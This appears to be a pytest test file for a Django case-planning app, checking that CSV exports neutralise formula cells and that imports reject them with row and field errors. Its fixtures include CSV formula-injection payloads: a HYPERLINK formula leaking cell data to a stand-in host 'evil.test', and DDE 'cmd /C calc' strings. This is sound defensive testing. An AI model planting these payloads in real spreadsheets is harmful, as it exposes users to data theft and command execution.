"""CSV formula injection: a spreadsheet runs a cell that starts with =, +, -, @, a tab or a
carriage return as a formula. Exports neutralise such cells (the OWASP rule: a leading single
quote); imports refuse them with the row and column, and import nothing."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command

from planner.cases.models import Case
from planner.cases.services import cases_import
from planner.cases.transfer import (
    FIELDS,
    LIST_SEPARATOR,
    case_to_row,
    parse_rows,
    rows_to_csv,
)
from tests.factories import UserFactory
from tests.planner.cases.factories import CaseFactory
from tests.planner.cases.test_import import _row

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "title": '=HYPERLINK("http://evil.test/?"&A1,"Click")',
    "area": "+cmd|' /C calc'!A0",
    "region": "-2+3+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0",
    "benefits": "\t=1+1",
    "lessons": "\r=1+1",
    "contact_role": "=1+1",
}


def cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def attacker_csv(rows: list[dict]) -> str:
    """A CSV file as an attacker writes it: every value exactly as given, nothing escaped."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=FIELDS, lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow(
            {k: LIST_SEPARATOR.join(v) if isinstance(v, list) else v for k, v in row.items()}
        )
    return out.getvalue()


def case_rows():
    return [case_to_row(c) for c in Case.objects.order_by("key")]


def admin_client(client):
    admin = UserFactory(email="root@planner.test", organisation=None, is_staff=True)
    admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    return client


def test_every_export_neutralises_cells_a_spreadsheet_would_run(client, tmp_path):
    hostile = CaseFactory(key="hostile", organisations=["=1+1", "Kent Police"], **HOSTILE)
    exports = {"function": rows_to_csv([case_to_row(hostile)])}
    out = tmp_path / "cases.csv"
    call_command("export_cases", "--format", "csv", "--output", str(out))
    exports["command"] = out.read_bytes().decode()
    exports["admin"] = (
        admin_client(client)
        .post(
            "/admin/cases/case/",
            {"action": "export_csv", "_selected_action": [hostile.pk]},
        )
        .content.decode()
    )
    for where, text in exports.items():
        (row,) = cells(text)
        for field, value in HOSTILE.items():
            assert row[field] == "'" + value, (where, field)
        assert row["organisations"] == "'=1+1 | Kent Police", where
        for field, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (where, field, value)


@pytest.mark.parametrize("dry_run", [False, True], ids=["import", "dry run"])
@pytest.mark.parametrize("field", sorted(HOSTILE))
def test_an_import_with_a_formula_cell_names_the_row_and_imports_nothing(field, dry_run):
    existing = CaseFactory(key="one", title="Scheme one")
    before = case_rows()
    rows = [_row("one", title="Renamed"), _row("two", **{field: HOSTILE[field]}), _row("three")]
    result = cases_import(rows=parse_rows(attacker_csv(rows), "csv"), dry_run=dry_run)

    assert [(e.row, e.field) for e in result.errors] == [(2, field)]
    assert str(result.errors[0]).startswith(f"row 2, {field}: ")
    assert "formula" in result.errors[0].message
    assert not result.applied and result.created == result.updated == 0
    assert case_rows() == before and Case.objects.get().title == existing.title


def test_the_import_command_and_admin_page_refuse_a_formula_cell(client, tmp_path, capsys):
    source = tmp_path / "cases.csv"
    source.write_text(attacker_csv([_row("one"), _row("two", title=HOSTILE["title"])]))
    with pytest.raises(CommandError, match="Nothing imported"):
        call_command("import_cases", str(source), "--dry-run")
    assert "row 2, title: " in capsys.readouterr().err
    upload = SimpleUploadedFile("cases.csv", source.read_bytes())
    response = admin_client(client).post("/admin/cases/case/import/", {"file": upload})
    assert response.status_code == 200
    assert "row 2, title: " in response.content.decode()
    assert Case.objects.count() == 0


def test_legitimate_text_and_numbers_round_trip_through_a_csv_export_exactly():
    rows = [
        _row(
            "one",
            title="North-East joint estates - phase 2",
            summary="- shared estates\n- one control room",
            benefits="+12% more shifts covered",
            lessons="'Tis better to agree the cost split early",
            contact_role="@Estates (team account)",
            organisations=["-Anon- Trust", "Kent Police"],
            cashable_savings=250000,
            start_year=2014,
        ),
        _row("two", start_year=None, cashable_savings=None, area="'quoted'"),
    ]
    assert cases_import(rows=rows).errors == []
    before = case_rows()
    text = rows_to_csv(before)
    (numbers,) = [r for r in cells(text) if r["key"] == "one"]
    assert numbers["cashable_savings"] == "250000" and numbers["start_year"] == "2014"

    assert cases_import(rows=parse_rows(text, "csv")).unchanged == 2
    Case.objects.all().delete()
    result = cases_import(rows=parse_rows(text, "csv"))
    assert result.errors == [] and result.created == 2
    assert case_rows() == before
    assert set(FIELDS) == set(before[0])
